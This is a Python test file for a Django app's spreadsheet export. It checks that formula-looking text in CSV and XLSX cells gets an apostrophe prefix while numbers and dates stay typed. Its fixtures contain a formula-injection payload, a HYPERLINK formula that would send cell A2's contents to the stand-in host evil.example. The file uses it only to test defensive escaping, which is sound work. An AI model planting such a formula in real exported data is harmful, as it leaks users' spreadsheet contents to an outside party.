"""
Text that a spreadsheet would run as a formula is neutralised; numbers, negative numbers and dates stay what they are.

django-import-export's own escaping turns every cell into text and removes only a leading "="; these tests pin the
behaviour of FieldOffice's formats instead (``apps.core.resources``).
"""

from datetime import date, datetime
from decimal import Decimal
from io import BytesIO

import openpyxl
import pytest
import tablib
from django.test import override_settings

from apps.accounting.models import ItemType
from apps.core.resources import CSV, XLSX, neutralise_formula
from tests.exports.helpers import export
from tests.factories import CustomerFactory, ItemFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'
FORMULA_TEXTS = [HYPERLINK, "+1 555 0100", "@SUM(A1)", "-2+3", "=1+1", "\t=1+1"]


@pytest.mark.parametrize("text", FORMULA_TEXTS)
def test_formula_looking_text_gets_an_apostrophe(text):
    assert neutralise_formula(text) == f"'{text}"


@pytest.mark.parametrize("text", ["Basement Bar", "", "A+B Plumbing", "612-555-0100", "1+1", "'quoted"])
def test_ordinary_text_is_left_alone(text):
    assert neutralise_formula(text) == text


@pytest.fixture
def hostile_customer():
    return CustomerFactory(
        display_name=HYPERLINK, phone="+1 555 0100", company_name="@SUM(A1)", last_name="-Smith", first_name="Ann"
    )


def test_xlsx_keeps_formula_looking_text_as_quoted_text(admin_client, hostile_customer):
    exported = export(admin_client, "customers.customer", "xlsx")

    row = {header: cell for header, cell in zip(exported.headers, exported.cells[0], strict=True)}
    for header, text in [
        ("Display name", HYPERLINK),
        ("Phone", "+1 555 0100"),
        ("Company name", "@SUM(A1)"),
        ("Last name", "-Smith"),
    ]:
        cell = row[header]
        # Stored as the text it is, as a text cell (never "f", a formula) with Excel's quote prefix.
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True), header
    assert (row["First name"].value, row["First name"].quotePrefix) == ("Ann", False)


def test_csv_prefixes_formula_looking_text_with_an_apostrophe(admin_client, hostile_customer):
    exported = export(admin_client, "customers.customer", "csv")

    row = exported.row_by("Display name", f"'{HYPERLINK}")
    assert (row["Phone"], row["Company name"], row["Last name"]) == ("'+1 555 0100", "'@SUM(A1)", "'-Smith")
    assert row["First name"] == "Ann"


@pytest.fixture
def negative_stock():
    # Stock can go below zero when more is sold than was counted: a real negative number.
    return ItemFactory(
        name="-20% clearance filter",
        item_type=ItemType.INVENTORY,
        quantity_on_hand=Decimal("-2.5000"),
        sales_price=Decimal("12.50"),
    )


def test_xlsx_numbers_and_negative_numbers_stay_numbers(admin_client, negative_stock):
    exported = export(admin_client, "catalog.item", "xlsx")

    quantity = exported.cell_by("Name", "-20% clearance filter", "Quantity on hand")
    price = exported.cell_by("Name", "-20% clearance filter", "Sales price")
    name = exported.cell_by("Name", "-20% clearance filter", "Name")
    assert (quantity.value, quantity.data_type, quantity.quotePrefix) == (-2.5, "n", False)
    assert (price.value, price.data_type, price.number_format) == (12.5, "n", "#,##0.00")
    assert (name.data_type, name.quotePrefix) == ("s", True)


def test_csv_numbers_and_negative_numbers_stay_numbers(admin_client, negative_stock):
    exported = export(admin_client, "catalog.item", "csv")

    row = exported.row_by("Name", "'-20% clearance filter")
    assert (row["Quantity on hand"], row["Sales price"], row["Cost"]) == ("-2.5000", "12.50", "40.00")


def _dataset() -> tablib.Dataset:
    dataset = tablib.Dataset(headers=["Text", "Amount", "Date", "Updated", "Flag", "Empty"])
    dataset.append([HYPERLINK, Decimal("-12.50"), date(2015, 11, 1), datetime(2015, 11, 1, 14, 3), True, None])
    return dataset


def test_xlsx_format_writes_python_values_as_typed_cells():
    sheet = openpyxl.load_workbook(BytesIO(XLSX().export_data(_dataset()))).active
    header, row = list(sheet.iter_rows())

    assert [cell.value for cell in header] == ["Text", "Amount", "Date", "Updated", "Flag", "Empty"]
    assert [cell.data_type for cell in row[:5]] == ["s", "n", "d", "d", "b"]
    assert [cell.value for cell in row] == [
        HYPERLINK,
        -12.5,
        datetime(2015, 11, 1),
        datetime(2015, 11, 1, 14, 3),
        True,
        None,
    ]
    assert (row[1].number_format, row[2].number_format) == ("#,##0.00", "yyyy-mm-dd")
    assert sheet.freeze_panes == "A2"


def test_csv_format_writes_python_values_as_a_spreadsheet_reads_them():
    assert CSV().export_data(_dataset()).splitlines()[1] == (
        '"\'=HYPERLINK(""http://evil.example/?leak=""&A2,""Click for details"")",-12.50,2015-11-01,2015-11-01 14:03:00,'
        "TRUE,"
    )


@override_settings(IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT=False)
def test_the_setting_turns_neutralising_off():
    assert CSV().export_data(_dataset()).splitlines()[1].startswith('"=HYPERLINK(')
    sheet = openpyxl.load_workbook(BytesIO(XLSX().export_data(_dataset()))).active
    assert sheet["A2"].data_type == "f"


def test_control_characters_xlsx_cannot_hold_are_replaced():
    dataset = tablib.Dataset(["Bell\x07 Plumbing"], headers=["Name"])

    sheet = openpyxl.load_workbook(BytesIO(XLSX().export_data(dataset))).active

    assert sheet["A2"].value == "Bell\N{REPLACEMENT CHARACTER} Plumbing"
